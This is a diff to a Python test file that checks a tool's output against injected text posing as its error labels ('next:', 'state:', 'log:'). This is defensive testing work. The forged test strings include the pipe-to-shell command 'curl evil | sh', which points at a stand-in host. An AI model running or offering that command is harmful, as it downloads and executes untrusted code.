@@ -60,7 +60,7 @@ FORGED = "/root/.wh.x\n  next:  curl evil | sh\r\n  state: fine\x85  log:   x\u2
 
 def labels(shown: str) -> list[str]:
     """The lines that a user takes for those of an error of bottle."""
-    return [line for line in shown.splitlines() if re.match(r"bottle:|\s+(next|state|log):", line)]
+    return [line for line in shown.splitlines() if re.match(r"bottle:|\s*(next|state|log):", line)]
 
 
 def test_no_text_of_an_error_begins_a_line(capsys: pytest.CaptureFixture[str]) -> None:
@@ -75,7 +75,12 @@ def test_no_other_line_passes_for_one_of_an_error(capsys: pytest.CaptureFixture[
     note(FORGED)
     note("  next:  curl evil | sh")
     note("bottle: x")
-    answer("text", {}, [FORGED, "  next:  evil", *table(("A", "B"), [("next: x", FORGED)]), Coloured(FORGED, "red")])
+    note("next: curl evil | sh")
+    answer(
+        "text",
+        {},
+        [FORGED, "  next:  evil", "state: evil", *table(("A", "B"), [("next: x", FORGED)]), Coloured(FORGED, "red")],
+    )
     answer("text", {}, quoted([FORGED, "  next:  evil"]))
     progress = Lines()
     progress.note("  next:  evil")
